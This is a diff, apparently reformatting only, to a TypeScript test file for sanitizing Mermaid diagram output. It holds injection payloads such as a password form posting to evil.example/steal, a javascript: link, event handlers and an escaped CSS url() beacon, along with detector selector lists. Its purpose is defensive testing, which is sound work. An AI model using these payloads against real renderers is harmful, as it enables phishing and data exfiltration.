@@ -55,7 +55,9 @@ export const PAYLOADS: { name: string; source: string }[] = [
   },
   {
     name: "front matter asking for securityLevel 'loose'",
-    source: ['---', 'config:', '  securityLevel: loose', '---', 'flowchart TD', `  L["${FORM.replace('/steal', '/frontmatter')}"]`].join('\n'),
+    source: ['---', 'config:', '  securityLevel: loose', '---', 'flowchart TD', `  L["${FORM.replace('/steal', '/frontmatter')}"]`].join(
+      '\n',
+    ),
   },
   {
     name: 'tooltip markup and an in-page link',
@@ -65,7 +67,7 @@ export const PAYLOADS: { name: string; source: string }[] = [
     name: 'sequence diagram message and actor menu link',
     source: `sequenceDiagram\n  participant A as Alice\n  link A: Phish @ https://evil.example/menu\n  A->>A: ${FORM.replace('/steal', '/sequence')}`,
   },
-  { name: 'markdown string label', source: "flowchart TD\n  P[\"`**bold** <a href='https://evil.example/md'>md link</a>`\"]" },
+  { name: 'markdown string label', source: 'flowchart TD\n  P["`**bold** <a href=\'https://evil.example/md\'>md link</a>`"]' },
   { name: 'class diagram link', source: 'classDiagram\n  class Foo\n  link Foo "https://evil.example/class"' },
 ];
 
@@ -115,7 +117,8 @@ export async function watchForeignRequests(context: BrowserContext): Promise<str
 }
 
 /** Elements that must never enter the live page, not even while mermaid lays a diagram out. */
-const NEVER_INSERTED = 'form, input, button:not(.sdnb-button), textarea, select, option, iframe, frame, object, embed, base, meta[http-equiv="refresh" i]';
+const NEVER_INSERTED =
+  'form, input, button:not(.sdnb-button), textarea, select, option, iframe, frame, object, embed, base, meta[http-equiv="refresh" i]';
 
 /**
  * A context that records (in `window.__inserted`) every such element put into a page, and with
@@ -165,7 +168,9 @@ export function findOffenders(selector: string): string[] {
   const roots = [...document.querySelectorAll(selector), ...document.querySelectorAll('body > .mermaidTooltip')];
   if (!document.querySelector(selector)) return [`nothing matches ${selector}`];
   for (const root of roots) {
-    for (const el of root.querySelectorAll('form, input, button, textarea, select, option, iframe, frame, object, embed, base, meta, link, script, audio, video, source, animate, set')) {
+    for (const el of root.querySelectorAll(
+      'form, input, button, textarea, select, option, iframe, frame, object, embed, base, meta, link, script, audio, video, source, animate, set',
+    )) {
       found.push(`<${el.localName}>`);
     }
     for (const el of [root, ...root.querySelectorAll('*')]) {
@@ -174,10 +179,13 @@ export function findOffenders(selector: string): string[] {
         const v = a.value.trim();
         const css = v.replace(/\\([0-9a-f]{1,6})\s?/gi, (_, h) => String.fromCodePoint(parseInt(h, 16)));
         if (n.startsWith('on')) found.push(`${el.localName}[${n}]`);
-        if (urlAttrs.includes(n) && !v.startsWith('#') && !(/^(src|href|xlink:href)$/.test(n) && /^data:image\//i.test(v))) found.push(`${el.localName}[${n}="${v}"]`);
+        if (urlAttrs.includes(n) && !v.startsWith('#') && !(/^(src|href|xlink:href)$/.test(n) && /^data:image\//i.test(v)))
+          found.push(`${el.localName}[${n}="${v}"]`);
         if (n === 'style' && fetching.test(css)) found.push(`${el.localName}[style="${v}"]`);
       }
-      const text = (el.localName === 'style' ? el.textContent ?? '' : '').replace(/\\([0-9a-f]{1,6})\s?/gi, (_, h) => String.fromCodePoint(parseInt(h, 16)));
+      const text = (el.localName === 'style' ? (el.textContent ?? '') : '').replace(/\\([0-9a-f]{1,6})\s?/gi, (_, h) =>
+        String.fromCodePoint(parseInt(h, 16)),
+      );
       if (fetching.test(text)) found.push(`<style> ${text.match(/.{0,40}(url\(|@import|image-set).{0,60}/i)?.[0]}`);
     }
   }
@@ -213,7 +221,12 @@ export const SANITIZER_CASES: [name: string, input: string, output: string, remo
     ['a[xlink:href]'],
   ],
   ['an in-page link stays', '<svg><a href="#top"><text>t</text></a></svg>', '<svg><a href="#top"><text>t</text></a></svg>', []],
-  ['a javascript: link in a label becomes text', '<div><a href="javascript:alert(1)">js</a></div>', '<div><span>js</span></div>', ['a[href]']],
+  [
+    'a javascript: link in a label becomes text',
+    '<div><a href="javascript:alert(1)">js</a></div>',
+    '<div><span>js</span></div>',
+    ['a[href]'],
+  ],
   [
     'a form in a label leaves its text',
     '<svg><foreignObject><div><form action="https://evil.example/steal" method="post"><input name="pw"><button>Log in</button></form></div></foreignObject></svg>',
@@ -238,14 +251,24 @@ export const SANITIZER_CASES: [name: string, input: string, output: string, remo
     '<div>kept</div>',
     ['<iframe>', '<base>', '<meta>', '<link>', '<object>'],
   ],
-  ['event handlers go', '<svg><g onclick="x()" onmouseover="y()"><text>t</text></g></svg>', '<svg><g><text>t</text></g></svg>', ['g[onclick]', 'g[onmouseover]']],
+  [
+    'event handlers go',
+    '<svg><g onclick="x()" onmouseover="y()"><text>t</text></g></svg>',
+    '<svg><g><text>t</text></g></svg>',
+    ['g[onclick]', 'g[onmouseover]'],
+  ],
   [
     'a style declaration that fetches goes, the rest stays',
     '<span style="color: red; background-image: url(https://evil.example/b.png)">x</span>',
     '<span style="color: red;">x</span>',
     ['span[style] url()'],
   ],
-  ['an escaped url( is still a url(', '<span style="background-image: u\\72l(https://evil.example/e.png)">x</span>', '<span>x</span>', ['span[style] url()']],
+  [
+    'an escaped url( is still a url(',
+    '<span style="background-image: u\\72l(https://evil.example/e.png)">x</span>',
+    '<span>x</span>',
+    ['span[style] url()'],
+  ],
   ['fill: url(#gradient) stays', '<svg><rect style="fill: url(#g1)"></rect></svg>', '<svg><rect style="fill: url(#g1)"></rect></svg>', []],
   [
     "mermaid's stylesheet loses @import and fetching declarations only",
